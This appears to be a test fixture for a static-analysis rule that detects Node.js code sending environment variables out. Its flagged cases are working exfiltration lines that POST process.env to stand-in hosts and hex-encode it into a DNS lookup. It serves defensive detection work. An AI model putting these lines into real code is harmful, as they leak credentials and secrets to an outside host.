/*
 * Fixture for js-exfil-environment.
 * RULEID: https.request write of JSON.stringify(process.env), fetch body with env, dns lookup.
 * OK: spawn with {...process.env}, one named token in an Authorization header.
 */
const https = require("https");
const dns = require("dns");
const os = require("os");
const { spawn } = require("child_process");

const data = JSON.stringify({ host: os.hostname(), env: process.env });
const req = https.request({ hostname: "x.example-collector.net", method: "POST", path: "/" });
// ruleid: js-exfil-environment
req.write(data);
req.end();

// ruleid: js-exfil-environment
fetch("https://198.51.100.8/c", { method: "POST", body: JSON.stringify(process.env) });

const enc = Buffer.from(JSON.stringify(process.env)).toString("hex").slice(0, 60);
// ruleid: js-exfil-environment
dns.lookup(enc + ".d.example.net", () => {});

// ok: js-exfil-environment
spawn("npm", ["test"], { env: { ...process.env, CI: "1" } });
// ok: js-exfil-environment
fetch("https://api.github.com/user", { headers: { Authorization: `token ${process.env.GH_TOKEN}` } });

// A terminal given the environment, then typed into (node-pty's demo): not a network write.
const term = pty.spawn(shell, [], { name: "xterm-color", env: process.env });
// ok: js-exfil-environment
term.write("ls\r");
const child = child_process.fork("worker.js", [], { env: process.env });
// ok: js-exfil-environment
child.send({ cmd: "start" });
